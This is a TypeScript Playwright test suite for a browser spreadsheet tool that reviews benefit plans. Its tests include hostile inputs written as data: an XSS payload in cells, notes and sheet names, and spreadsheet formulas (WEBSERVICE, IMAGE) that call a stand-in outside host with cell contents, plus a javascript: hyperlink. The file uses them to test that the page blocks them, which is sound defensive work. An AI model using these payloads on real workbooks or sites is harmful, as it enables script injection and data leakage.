import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { expect } from "@jest/globals";
import type { Page } from "playwright-core";
import { openPackage } from "../../xlsx-file/package/package";
import { violations } from "../support/chromium/looked-at";
import { sheetCells } from "../support/sheet-cells";
import { soundBenefit, soundPlan, tableOf, type Tables } from "../support/plan-builder";
import { planFile } from "../support/plan-file";
import { testWhere } from "../support/test-where";
import { workbook } from "../support/xlsx-fixture";
import { startedPage } from "./started-page";
import { addressBox, openWorkbench, saved, selectCell, toSheet, until, untilKept, type OpenedPage } from "./workbench-page";

/* The page as it ships, in real Chromium under its own content security policy. */

const started = startedPage();

/** The page that the tests have open one after the other: each leaves the example there, or a workbook that is no plan. */
let shared: OpenedPage | undefined;

/** Takes that page, or a new one. A page on which a test fails is left. */
async function takeShared(): Promise<OpenedPage> {
  const { browser, served } = started();
  const opened = shared ?? (await openWorkbench(browser, served.address));
  shared = undefined;
  return opened;
}

/** A test on that page; at its end nobody else was asked for anything, and nothing went wrong in silence. */
const inBrowser = (name: string, run: (opened: OpenedPage) => Promise<void>): void =>
  testWhere("a browser")(
    name,
    async () => {
      const opened = await takeShared();
      await run(opened);
      expect([opened.errors, opened.strangers]).toEqual([[], []]);
      shared = opened;
    },
    180_000,
  );

testWhere("a browser")("the built folder names no place of the machine that built it", () => {
  const { folder } = started().served;
  const scripts = readdirSync(folder).filter((name) => /\.(?:js|html)$/.test(name));
  expect(scripts).toContain("plan-worker.js");
  expect(scripts.filter((name) => readFileSync(path.join(folder, name), "utf8").includes(process.cwd()))).toEqual([]);
});

/** Types into the selected cell, and waits until the file has it. */
async function enter(page: Page, address: string, text: string): Promise<void> {
  await selectCell(page, address);
  await page.keyboard.type(text);
  await page.keyboard.press("Enter");
}

/** Leaves a workbook that is no plan, where a plan came to be open: the next one would be asked about. */
async function leavePlan(page: Page): Promise<void> {
  await openFile(page, "left.csv", new TextEncoder().encode("Left\n"));
  await page.getByText("left.csv", { exact: true }).waitFor();
}

const openFile = (page: Page, name: string, bytes: Uint8Array): Promise<void> =>
  page.locator("#open").setInputFiles({ name, mimeType: "application/octet-stream", buffer: Buffer.from(bytes) });

inBrowser("it opens on the example, reviewed, and says nothing to anybody else", async ({ page }) => {
  expect(await page.getByRole("tab", { name: "Dashboard" }).getAttribute("aria-selected")).toBe("true");
  await page.getByRole("button", { name: "Review the plan" }).waitFor();
  expect(await page.locator("#file").textContent()).toBe("crm-example.xlsx");
  // All of the dashboard's width is seen beside the pane.
  expect(Math.max(...(await chartEdges(page)))).toBeLessThan(1280 - 352);
});

/** Where the charts on the sheet end to the right, in pixels of the window. */
const chartEdges = (page: Page): Promise<readonly number[]> =>
  page.evaluate("Array.from(document.querySelectorAll('.charts img'), (chart) => chart.getBoundingClientRect().right)");

/* The charts are pictures, and take on no ink of the page by themselves. */
const looks = [
  ["dark", "#e5e9f0", { colorScheme: "dark" }, 1280],
  ["contrast", "#000000", { colorScheme: "light", forcedColors: "active" }, 1280],
  ["light", "#1f2937", { forcedColors: "none" }, 1280],
  ["narrow", "#1f2937", {}, 390],
] as const;

testWhere("a browser")(
  `everybody can use it: ${looks.map(([look]) => look).join(", ")}, from one to the next`,
  async () => {
    const { browser, served } = started();
    const { page } = await openWorkbench(browser, served.address, { colorScheme: "dark", bypassCSP: true });
    const chart = page.locator(".charts img").first();
    for (const [look, ink, media, width] of looks) {
      await page.emulateMedia(media);
      await page.setViewportSize({ width, height: 800 });
      await chart.waitFor({ state: "attached" });
      // A picture that is drawn anew meanwhile cannot be fetched.
      const drawn = () => page.evaluate<string>("fetch(document.querySelector('.charts img').src).then((picture) => picture.text(), () => '')");
      expect(await until(drawn, (picture) => picture.includes(ink))).toContain(ink);
      expect([look, await violations(page)]).toEqual([look, []]);
      expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBe(0);
      expect(await chart.getAttribute("alt")).toMatch(/of the promise delivered/);
    }
    // Beside the pane the tabs keep room, however narrow the window.
    await page.setViewportSize({ width: 800, height: 800 });
    const widthOf = (part: string) => () => page.evaluate<number>(`document.querySelector("${part}").getBoundingClientRect().width`);
    expect(await until(widthOf("#grid footer"), (width) => width < 450)).toBeGreaterThan(390);
    expect(await until(widthOf("[data-u-comp=slide-tab-bar]"), (width) => width > 150)).toBeGreaterThan(150);
    await page.setViewportSize({ width: 390, height: 800 });
    // On a telephone too the tab of the sheet in front is seen whole, beside the buttons around it.
    const edges = await page.evaluate<readonly (readonly [number, number])[]>(
      `["[aria-label='All sheets']", "[role=tab][aria-selected=true]", "[aria-label='Zoom out']"].map((part) => {
        const { left, right } = document.querySelector("#grid footer " + part).getBoundingClientRect();
        return [left, right];
      })`,
    );
    expect(edges.flat()).toEqual([...edges.flat()].sort((a, b) => a - b));
    await page.getByRole("button", { name: "Plan", exact: true }).click();
    await page.getByRole("button", { name: "Review the plan" }).waitFor();
    await page.context().close();
  },
  120_000,
);

inBrowser("a file that is no workbook leaves the open one as it is", async ({ page }) => {
  await openFile(page, "note.xlsx", new TextEncoder().encode("not a workbook"));
  await page.getByText("This file is not an .xlsx workbook.").waitFor();
  expect(await page.locator("#file").textContent()).toBe("crm-example.xlsx");
});

inBrowser("a plan is reviewed in its own file, and shown again in the size that the user chose", async ({ page }) => {
  const fitted = await chartEdges(page);
  await page.getByRole("button", { name: "Zoom in" }).click();
  const chosen = await until(
    () => chartEdges(page),
    (edges) => Math.max(...edges) > Math.max(...fitted) + 50,
  );
  expect(Math.max(...chosen)).toBeGreaterThan(Math.max(...fitted) + 50);
  await page.getByRole("button", { name: "Review the plan" }).click();
  await page.getByText("Reviewed at 2026-10-31", { exact: true }).waitFor();
  await page.getByText("8 of 14 benefits that are due are realized or on plan.").first().waitFor();
  await page.getByRole("button", { name: "Undo", exact: true }).click();
  await page.locator("#undo:disabled").waitFor();
  expect(
    await until(
      () => chartEdges(page),
      (edges) => String(edges) === String(chosen),
    ),
  ).toEqual(chosen);
});

inBrowser("the pane tells who owes what and how a figure comes about, and puts a formula, a setting and a baseline into the file", async ({ page }) => {
  const original = await saved(page);
  const pane = page.locator("#pane");
  const tab = (name: string): Promise<void> => pane.getByRole("tab", { name, exact: true }).click();
  const line = (name: RegExp): Promise<void> => pane.getByRole("button", { name }).click();
  const undo = page.getByRole("button", { name: "Undo", exact: true });

  await tab("Chase");
  const owed = pane.locator("article", { hasText: "Head of Sales Operations" });
  await owed.getByText("Message", { exact: true }).click();
  await owed.getByText(/A-11/).waitFor();

  await tab("Benefits");
  await line(/^Audit confirms one record for every customer/);
  await pane.getByRole("heading", { name: "How it comes about" }).waitFor();
  await pane.locator("summary", { hasText: /^Status: Realized$/ }).waitFor();
  await pane.getByRole("button", { name: "Go to its row" }).click();
  await page.getByRole("tab", { name: "Benefits", exact: true, selected: true }).first().waitFor();
  // The tab is in front a moment before the cell is selected.
  const selected = await until(
    () => addressBox(page).inputValue(),
    (address) => address.endsWith("16"),
  );
  expect(selected).toMatch(/16$/);

  await selectCell(page, "B60");
  await tab("Formulas");
  await pane.locator("summary", { hasText: /^BENEFIT_VARIANCE$/ }).click();
  await pane.getByRole("button", { name: "Insert the example" }).click();
  await page.locator("#undo:enabled").waitFor();
  const formula = /<c r="B60"[^>]*><f>_xldudf_BENEFIT_VARIANCE\(10, ?9, ?"Decrease"\)<\/f><v>1<\/v>/;
  const having = async (): Promise<readonly string[]> => {
    const file = await openPackage(await saved(page));
    return file.names().filter((name) => formula.test(file.text(name) ?? ""));
  };
  expect(await until(having, ({ length }) => length > 0)).toHaveLength(1);

  await tab("More");
  await line(/^Settings/);
  await line(/^Currency/);
  await pane.getByLabel("Value").fill("EUR");
  await pane.getByRole("button", { name: "Save", exact: true }).click();
  await pane.getByRole("button", { name: /^Currency.*EUR/ }).waitFor();

  await pane.getByRole("button", { name: "Back to More" }).click();
  await line(/^Freeze a baseline/);
  await pane.getByLabel("Name").fill("Second stage");
  await pane.getByLabel("Approved by").fill("Steering group");
  await pane.getByRole("button", { name: "Freeze the baseline" }).click();
  await pane
    .getByText(/^Froze 15 benefits as "Second stage"/)
    .first()
    .waitFor();
  const bytes = await saved(page);
  expect((await sheetCells(bytes, "Settings")).find(([setting]) => setting === "Currency")?.[1]).toBe("EUR");
  expect((await sheetCells(bytes, "Baselines")).filter(([baseline]) => baseline === "Second stage").length).toBe(15);

  await tab("Review");
  await pane.getByText(/Cashable money is 225k EUR behind plan/).waitFor();
  for (let step = 0; step < 3; step++) await undo.click();
  await page.locator("#undo:disabled").waitFor();
  expect(Buffer.compare(await saved(page), original)).toBe(0);
});

inBrowser("what cannot be saved is refused in words, and not done", async ({ page }) => {
  await toSheet(page, "Measurements");
  await selectCell(page, "B4");
  await page.keyboard.press("Control+b");
  await page.getByText("Only what cells hold and their number formats are saved here.").waitFor();
  const bytes = await workbook({ sheets: [{ name: "Plan", rows: '<row r="1"><c r="A1"><v>1</v></c></row>', after: '<sheetProtection sheet="1"/>' }] });
  await openFile(page, "closed.xlsx", bytes);
  await page.getByText("closed.xlsx", { exact: true }).waitFor();
  await enter(page, "A1", "5");
  await page.getByText('The sheet "Plan" is protected.').waitFor();
  expect(Buffer.compare(await saved(page), bytes)).toBe(0);
});

inBrowser("saved without a change a workbook has its very bytes, and with one its sheet alone is another", async ({ page }) => {
  const original = await workbook({
    sheets: [
      { name: "Plan", rows: '<row r="1"><c r="A1"><v>1</v></c></row>' },
      { name: "Other", rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>&lt;img src=x onerror=alert(1)&gt;</t></is></c></row>' },
    ],
    more: { "xl/media/picture.png": "no picture" },
    moreTypes: '<Default Extension="png" ContentType="image/png"/>',
  });
  await openFile(page, "mine.xlsx", original);
  await page.getByText("Not shown here, and kept in the file: 1 picture.").waitFor();
  expect(Buffer.compare(await saved(page), original)).toBe(0);

  await enter(page, "A1", "12.5");
  // What is entered without a rest between is one step.
  await page.getByText("mine.xlsx (not saved)").waitFor();
  await enter(page, "B2", '=A1*2&" <b>"');
  expect(await planCells(page, (cells) => cells[1]?.[1] === "25 <b>")).toEqual([[12.5], [null, "25 <b>"]]);
  const bytes = await saved(page);
  const [before, after] = [await openPackage(original), await openPackage(bytes)];
  expect(after.names().filter((name) => before.text(name) !== after.text(name))).toEqual(["xl/workbook.xml", "xl/worksheets/sheet1.xml"]);

  // Two cells were entered, one after the other.
  const undo = page.getByRole("button", { name: "Undo" });
  await undo.click();
  await undo.click();
  await page.locator("#undo:disabled").waitFor();
  expect(Buffer.compare(await saved(page), original)).toBe(0);
});

inBrowser("an entry is one step with all that formulas give by it, which keep their text", async ({ page }) => {
  const original = await workbook({
    sheets: [
      {
        name: "Plan",
        rows:
          '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B2" si="0">A1*2</f><v>2</v></c></row>' +
          '<row r="2"><c r="A2"><v>3</v></c><c r="B2"><f t="shared" si="0"/><v>6</v></c></row>',
      },
    ],
  });
  await openFile(page, "given.xlsx", original);
  await page.getByText("given.xlsx", { exact: true }).waitFor();
  await slowed(page, async () => {
    await enter(page, "A1", "5");
    await page.getByText("given.xlsx (not saved)").waitFor();
  });
  expect(await planCells(page, (cells) => cells[0]?.[1] === 10)).toEqual([
    [5, 10],
    [3, 6],
  ]);
  expect(await page.locator("#refused").textContent()).toBe("");
  await page.getByRole("button", { name: "Undo" }).click();
  await page.locator("#undo:disabled").waitFor();
  expect(Buffer.compare(await saved(page), original)).toBe(0);
});

/** What the file has on its sheet "Plan" once that is such. */
const planCells = (page: Page, holds: (cells: Awaited<ReturnType<typeof sheetCells>>) => boolean): ReturnType<typeof sheetCells> =>
  until(async () => sheetCells(await saved(page), "Plan"), holds);

/** Does something on a computer so slow that what formulas give comes long after the entry. */
async function slowed(page: Page, work: () => Promise<void>): Promise<void> {
  const machine = await page.context().newCDPSession(page);
  await machine.send("Emulation.setCPUThrottlingRate", { rate: 6 });
  await work();
  await machine.send("Emulation.setCPUThrottlingRate", { rate: 1 });
}

/** The next workbook, with those on its heels, comes to be shown so late that the user goes on typing into the one before. */
const showLate = (page: Page): Promise<unknown> =>
  page.evaluate(`{
    window.hasComeLate = false;
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (...sent) {
      Worker.prototype.postMessage = post;
      const hear = this.onmessage;
      const late = [];
      this.onmessage = (event) => {
        if (!("book" in event.data)) return hear.call(this, event);
        if (late.push(event) > 1) return;
        setTimeout(() => {
          window.hasComeLate = true;
          this.onmessage = hear;
          for (const event of late) hear.call(this, event);
        }, 1500);
      };
      return post.apply(this, sent);
    };
  }`);
const comeLate = (page: Page): Promise<boolean> => until(() => page.evaluate<boolean>("window.hasComeLate"), Boolean);

/** A workbook of one number that is open, and whose entry the user takes back while they go on typing. */
async function takenBackLate(page: Page, name: string): Promise<void> {
  await openFile(page, name, await workbook({ sheets: [{ name: "Plan", rows: '<row r="1"><c r="A1"><v>1</v></c></row>' }] }));
  await page.getByText(name, { exact: true }).waitFor();
  await enter(page, "A1", "5");
  await page.locator("#undo:enabled").waitFor();
  await showLate(page);
  await page.getByRole("button", { name: "Undo" }).click();
}

inBrowser(
  "what is entered, and what is being typed, while another state of the workbook is on its way stands in the file and in the grid",
  async ({ page }) => {
    await takenBackLate(page, "late.xlsx");
    await enter(page, "A2", "entered");
    await selectCell(page, "A3");
    await page.keyboard.type("typ");
    await comeLate(page);
    await page.keyboard.type("ed");
    await page.keyboard.press("Enter");
    expect(await planCells(page, (cells) => cells.length === 3)).toEqual([[1], ["entered"], ["typed"]]);
    // A formula counts what the grid has.
    await enter(page, "B1", '=A1&", "&A2&", "&A3');
    expect((await planCells(page, ([first]) => typeof first?.[1] === "string"))[0]).toEqual([1, "1, entered, typed"]);
  },
);

inBrowser(
  "an address that is being typed while another state of the workbook is on its way leads to its cell, and what is typed at once then stands in it",
  async ({ page }) => {
    await takenBackLate(page, "addressed.xlsx");
    await addressBox(page).fill("C2");
    await comeLate(page);
    await addressBox(page).press("Enter");
    await page.keyboard.type("=A1+1");
    await page.keyboard.press("Enter");
    expect(await planCells(page, (cells) => typeof cells[1]?.[2] === "number")).toEqual([[1], [null, null, 2]]);
  },
);

inBrowser("where nothing is to move, a workbook that is shown anew has its size at once, by which its cells take keys", async ({ page }) => {
  await openFile(page, "sized.xlsx", await workbook({ sheets: [{ name: "Plan", rows: '<row r="1"><c r="A1"><v>1</v></c></row>' }] }));
  await page.getByText("sized.xlsx", { exact: true }).waitFor();
  await enter(page, "A1", "5");
  await page.locator("#undo:enabled").waitFor();
  // Before the browser draws anything.
  await page.evaluate(`{
    const grid = document.getElementById("grid");
    const drawnOn = () => grid.querySelector("canvas[id*=sheet-main-canvas]");
    const before = drawnOn();
    window.sizes = new Promise((done) =>
      new MutationObserver(() => {
        if (drawnOn() !== before && drawnOn() !== null) done([drawnOn().getBoundingClientRect().width, grid.clientWidth]);
      }).observe(grid, { childList: true, subtree: true }));
    // No promise to wait for.
    null;
  }`);
  await page.getByRole("button", { name: "Undo" }).click();
  const [width, room] = await page.evaluate<readonly [number, number]>("window.sizes");
  expect(width).toBe(room);
});

inBrowser("a file of separated values is opened as a workbook", async ({ page }) => {
  await openFile(page, "list.csv", new TextEncoder().encode("Benefit;Target\nFewer calls;12,5\n"));
  await page.getByText("list.csv", { exact: true }).waitFor();
  const bytes = await saved(page);
  expect(await sheetCells(bytes, "list")).toEqual([
    ["Benefit", "Target"],
    ["Fewer calls", 12.5],
  ]);
});

inBrowser(
  "a formula that fills several cells says what the file keeps of it, and the plan's own are there in a file as Excel spells them",
  async ({ page }) => {
    const row = (number: number): string => `<row r="${number}"><c r="A${number}"><v>10</v></c><c r="B${number}"><v>${number}</v></c></row>`;
    await openFile(page, "own.xlsx", await workbook({ sheets: [{ name: "Own", rows: row(1) + row(2) }] }));
    await page.getByText("own.xlsx", { exact: true }).waitFor();
    await enter(page, "D1", '=BENEFIT_VARIANCE(A1:A2,B1:B2,"Decrease")');
    await page.getByText("The formula in D1 fills several cells here; the file keeps it in D1 alone.").waitFor();
    await enter(page, "E1", "=LET(x,A1,x/3)");
    const sheet = async (): Promise<string> => (await openPackage(await saved(page))).text("xl/worksheets/sheet1.xml") ?? "";
    const xml = await until(sheet, (cells) => cells.includes("3.33"));
    expect(xml).toContain('<f>_xldudf_BENEFIT_VARIANCE(A1:A2,B1:B2,"Decrease")</f><v>9</v>');
    expect(xml).toContain("<f>_xlfn.LET(_xlpm.x,A1,_xlpm.x/3)</f><v>3.3333333333333335</v>");
  },
);

inBrowser("what was not saved is offered after the page was closed, with its changes in it, and Undo takes them back to the very bytes", async ({ page }) => {
  const original = await workbook({ sheets: [{ name: "Plan", rows: '<row r="1"><c r="A1"><v>1</v></c></row>' }] });
  await openFile(page, "kept.xlsx", original);
  await page.getByText("kept.xlsx", { exact: true }).waitFor();
  await enter(page, "A1", "77");
  await page.getByText("kept.xlsx (not saved)").waitFor();
  await enter(page, "A2", "more");
  await untilKept(page, "kept.xlsx", "Plan", (cells) => cells[1]?.[0] === "more");
  await reloaded(page);
  await page.getByText(/^kept\.xlsx has changes of .* that were not saved\.$/).waitFor({ timeout: 60_000 });
  await page.getByRole("button", { name: "Open it again" }).click();
  await page.getByText("kept.xlsx (not saved)").waitFor();
  await page.getByText(/^The changes of .* and before are in it\. Undo takes them back, all at once\.$/).waitFor();
  await page.locator("#undo:enabled").click();
  await page.locator("#redo:enabled").waitFor();
  await page.getByText("kept.xlsx", { exact: true }).first().waitFor();
  expect(Buffer.compare(await saved(page), original)).toBe(0);
  await page.locator("#redo:enabled").click();
  await page.getByText("kept.xlsx (not saved)").waitFor();
  expect(await sheetCells(await saved(page), "Plan")).toEqual([[77], ["more"]]);
  // What was just entered and waits to be kept is forgotten too.
  await enter(page, "A3", "last");
  await page.getByText("Last files").click();
  await page.getByRole("button", { name: /^kept\.xlsx/ }).waitFor();
  await page.getByRole("button", { name: "Forget these files" }).click();
  await page.locator("#files").waitFor({ state: "hidden" });
  // Twice as long as nothing is to be typed before the browser keeps it.
  await page.waitForTimeout(1000);
  expect(await page.locator("#files").isHidden()).toBe(true);
  await reloaded(page);
  expect(await page.locator("#offer").isHidden()).toBe(true);
});

/** Loads the page anew, as after a crash. */
async function reloaded(page: Page): Promise<void> {
  page.once("dialog", (dialog) => void dialog.accept());
  await page.reload();
  await page.locator("#waiting").waitFor({ state: "hidden", timeout: 60_000 });
}

/** Chooses What if… at the end of a long page of the pane: its lines are seen then. */
async function tryFromFarDown(page: Page): Promise<void> {
  const pane = page.locator("#pane");
  await pane.getByRole("tab", { name: "Benefits", exact: true }).click();
  await pane.getByRole("button", { name: /B-15/ }).waitFor();
  await page.evaluate("document.querySelector('.pane').scrollTo(0, 1e6)");
  expect(await page.evaluate<number>("document.querySelector('.pane').scrollTop")).toBeGreaterThan(100);
  await page.getByRole("button", { name: "What if…" }).click();
  await page.getByText("Change a reading, a date or a target in the sheet.").waitFor();
  const isSeen = `["what-if-title", "drop", "what-if-figures"].map((id) => {
    const { left, top } = document.getElementById(id).getBoundingClientRect();
    return Boolean(document.elementFromPoint(left + 5, top + 5)?.closest("#" + id));
  })`;
  expect(await page.evaluate(isSeen)).toEqual([true, true, true]);
}

inBrowser("what is tried out shows before and after, comes back after a reload, and is dropped to the very bytes", async ({ page }) => {
  const original = await saved(page);
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole("button", { name: "Plan", exact: true }).click();
  await tryFromFarDown(page);
  await page.getByRole("button", { name: "Drop them" }).click();
  await page.locator("#what-if").waitFor({ state: "hidden" });
  await page.setViewportSize({ width: 1280, height: 800 });
  await tryFromFarDown(page);
  await page.locator("#pane").getByRole("tab", { name: "Review", exact: true }).click();
  await toSheet(page, "Benefits");
  await enter(page, "O6", "300000");
  const moved = page.getByRole("row", { name: "B-03: status Red Green" });
  await moved.waitFor();
  await page.getByText("As of this edit, at 2026-10-31.").waitFor();
  expect(await page.getByRole("button", { name: "Save", exact: true }).isDisabled()).toBe(true);
  await untilKept(page, "crm-example.xlsx", "Benefits", (cells) => cells[5]?.[14] === 300_000, "tried");
  await reloaded(page);
  await page.getByText(/^crm-example\.xlsx has changes of .* that were not saved, the last of them only tried out\.$/).waitFor();
  await page.getByRole("button", { name: "Open it again" }).click();
  await moved.waitFor();
  await page.getByText(/^The changes of .* and before are in it, and what you were trying out is again\.$/).waitFor();
  await page.getByRole("button", { name: "Drop them" }).click();
  await page.getByText("crm-example.xlsx", { exact: true }).waitFor();
  await page.locator("#what-if").waitFor({ state: "hidden" });
  expect(Buffer.compare(await saved(page), original)).toBe(0);
  await leavePlan(page);
});

/** What the first benefit is called in a file, and its target. */
async function benefitOf(bytes: Uint8Array): Promise<readonly unknown[]> {
  const [headers = [], first = []] = await sheetCells(bytes, "Benefits");
  return ["Benefit", "Target"].map((header) => first[headers.indexOf(header)]);
}

inBrowser(
  "a second copy is held against the open plan, without a mouse: compared, brought together as one step, left alone, or opened instead",
  async ({ page }) => {
    const copyWith = (own: Tables = {}) => planFile(soundPlan(own));
    const base = await copyWith();
    const day = page.getByLabel("Status date");
    await openFile(page, "april.xlsx", base);
    await page.getByText("april.xlsx", { exact: true }).waitFor();
    await day.fill("2026-01-31");
    await openFile(page, "june.xlsx", base);
    const dialog = page.getByRole("dialog", { name: "Two workbooks" });
    await dialog.getByRole("button", { name: "Open it instead" }).press("Enter");
    await page.getByText("june.xlsx", { exact: true }).waitFor();
    // What was asked of the workbook before is not asked of this one.
    await page.getByText("Blank means the one in Settings").or(page.getByText("Settings has none, so choose one here.")).waitFor();
    expect(await day.inputValue()).toBe("");
    await enter(page, "B2", "Less waiting");
    await page.getByText("june.xlsx (not saved)").waitFor();
    const mine = await saved(page);

    const copy = await copyWith({ Benefits: tableOf(soundBenefit({ Target: 9, Notes: "<img src=x onerror=alert(1)>" })) });
    await openFile(page, "july.xlsx", copy);
    await dialog.getByText("july.xlsx came while june.xlsx is open.").waitFor();
    expect(await violations(page)).toEqual([]);
    await page.keyboard.press("Enter");
    const compared = page.getByRole("dialog", { name: "july.xlsx against june.xlsx" });
    await compared.getByRole("row", { name: "B-01 Target 8 days 9 days row 2" }).waitFor();
    expect(await page.evaluate("document.activeElement.textContent")).toBe("july.xlsx against june.xlsx");
    await compared.getByRole("row", { name: "B-01 Notes blank <img src=x onerror=alert(1)> row 2" }).waitFor();
    await compared.getByRole("row", { name: "B-01 Benefit Less waiting" }).waitFor();
    expect(await violations(page)).toEqual([]);
    await page.keyboard.press("Delete");
    await page.keyboard.press("Escape");
    await compared.waitFor({ state: "hidden" });
    expect(Buffer.compare(await saved(page), mine)).toBe(0);

    await openFile(page, "july.xlsx", copy);
    await dialog.getByRole("button", { name: "Bring both together…" }).press("Enter");
    const ofBase = dialog.getByLabel("Choose the file that both were made of…");
    await ofBase.setInputFiles({
      name: "stranger.xlsx",
      mimeType: "",
      buffer: Buffer.from(await copyWith({ Benefits: tableOf(soundBenefit({ "Benefit ID": "X-9" })) })),
    });
    await dialog.getByText("june.xlsx and stranger.xlsx have no benefit in common").waitFor();
    await ofBase.setInputFiles({ name: "may.xlsx", mimeType: "", buffer: Buffer.from(base) });
    // July has B-01 alone, and June no column Notes.
    const told = ["june.xlsx with 1 cell, 0 new rows and 1 row gone from july.xlsx.", "Emptied, since july.xlsx took them away: Benefits B-02.", "1 conflict:"];
    await page.getByText(told.join(" ")).waitFor();
    expect(await page.getByRole("tab", { name: "Merge conflicts" }).getAttribute("aria-selected")).toBe("true");
    expect(await benefitOf(await saved(page))).toEqual(["Less waiting", 9]);
    await page.getByRole("button", { name: "Undo" }).click();
    await page.locator("#redo:enabled").waitFor();
    expect(Buffer.compare(await saved(page), mine)).toBe(0);

    await openFile(page, "july.xlsx", copy);
    await dialog.getByRole("button", { name: "Open it instead" }).press("Enter");
    await page.getByText("july.xlsx", { exact: true }).waitFor();
    expect(Buffer.compare(await saved(page), copy)).toBe(0);
    await leavePlan(page);
  },
);

inBrowser("of several workbooks the one chosen last stays open, and what is pressed meanwhile is asked of that", async ({ page }) => {
  const sheets = Array.from({ length: 200 }, (_, index) => ({ name: `Sheet ${index}`, rows: '<row r="1"><c r="A1"><v>1</v></c></row>' }));
  const atJune = {
    Settings: [
      ["Setting", "Value"],
      ["Status date", "2026-06-30"],
    ],
  };
  const [large, plan] = [await workbook({ sheets }), await planFile(soundPlan(atJune))];
  await openFile(page, "large.xlsx", large);
  await openFile(page, "hasty.xlsx", plan);
  await page.getByRole("button", { name: "Review the plan" }).click();
  await page.getByText("Reviewed at 2026-06-30", { exact: true }).waitFor();
  expect(await page.locator("#file").textContent()).toBe("hasty.xlsx (not saved)");
  expect(await page.locator("#pane").getByText("8 of 14 benefits").count()).toBe(0);
  await leavePlan(page);

  await openFile(page, "large.xlsx", large);
  const copy = await saved(page);
  expect(await page.locator("#file").textContent()).toBe("large.xlsx");
  expect(Buffer.compare(copy, large)).toBe(0);
  // Nor is it said on what came of the plan before.
  expect(await page.locator("#pane .announced[role=status]").textContent()).toBe("");
});

inBrowser("a plan whose Settings say German has its pane in German, and is reviewed so", async ({ page }) => {
  const german = {
    Settings: [
      ["Setting", "Value"],
      ["Status date", "2026-06-30"],
      ["Language", "Deutsch"],
    ],
  };
  await openFile(page, "plan.xlsx", await planFile(soundPlan(german)));
  await page.getByRole("button", { name: "Den Plan prüfen" }).click();
  await page.getByText("Geprüft zum 2026-06-30", { exact: true }).waitFor();
  await page.getByRole("tab", { name: "Übersicht", exact: true }).waitFor();
  // The words of the page stay those of the last plan.
  await leavePlan(page);
  await openFile(page, "english.xlsx", await planFile(soundPlan()));
  await page.getByRole("button", { name: "Review the plan" }).waitFor();
  await leavePlan(page);
});

testWhere("a browser")(
  "hostile workbooks are harmless: 200 sheets, HTML, formulas that would fetch, a damaged file",
  async () => {
    const { page, errors, strangers } = await takeShared();
    const blocked: string[] = [];
    page.on("requestfailed", (request) => void (request.failure()?.errorText === "csp" && blocked.push(request.url())));
    const html = "&lt;img src=x onerror=alert(1)&gt;";
    const formulas = [
      'WEBSERVICE("https://stranger.example/"&amp;B1)',
      'HYPERLINK("javascript:alert(1)","press"&amp;B1)',
      'IMAGE("https://stranger.example/x.png"&amp;B1)',
    ];
    const cells = formulas.map((formula, index) => `<row r="${index + 2}"><c r="A${index + 2}" t="str"><f>${formula}</f><v>${html}</v></c></row>`).join("");
    const many = Array.from({ length: 200 }, (_, index) => ({
      name: index === 0 ? html : `Sheet ${index}`,
      rows: `<row r="1"><c r="A1" t="inlineStr"><is><t>${html}</t></is></c><c r="B1"><v>${index}</v></c></row>${index === 0 ? cells : ""}`,
    }));
    const original = await workbook({ sheets: many });
    const asked: string[] = [];
    page.on("dialog", (dialog) => void (asked.push(dialog.message()), dialog.dismiss()));
    await openFile(page, "hostile.xlsx", original);
    await page.getByText("hostile.xlsx", { exact: true }).waitFor();
    expect(
      await until(
        () => page.locator("[data-u-comp=slide-tab-bar] [role=tab]").count(),
        (count) => count === 200,
      ),
    ).toBe(200);
    expect(Buffer.compare(await saved(page), original)).toBe(0);

    // Every formula there is calculated anew. The grid would ask for the picture of one, which the page's policy keeps from being asked.
    await enter(page, "B1", "7");
    await page.getByText("hostile.xlsx (not saved)").waitFor();
    const shown = "<img src=x onerror=alert(1)>";
    await untilKept(page, "hostile.xlsx", shown, (cells) => cells.length === 4 && cells.slice(1).every(([cell]) => cell !== shown));
    expect(await page.locator("#grid img[src], #grid iframe, #grid script, #pane img[src=x]").count()).toBe(0);

    await openFile(page, "cut.xlsx", original.subarray(0, Math.floor(original.length / 2)));
    await page.locator("#refused:not([hidden])").waitFor();
    expect(await page.locator("#file").textContent()).toBe("hostile.xlsx (not saved)");
    expect(asked).toEqual([]);
    expect(strangers).toEqual(blocked);
    expect(errors.filter((error) => !/violates the following Content Security Policy.*has been blocked/.test(error))).toEqual([]);
    await page.context().close();
  },
  180_000,
);
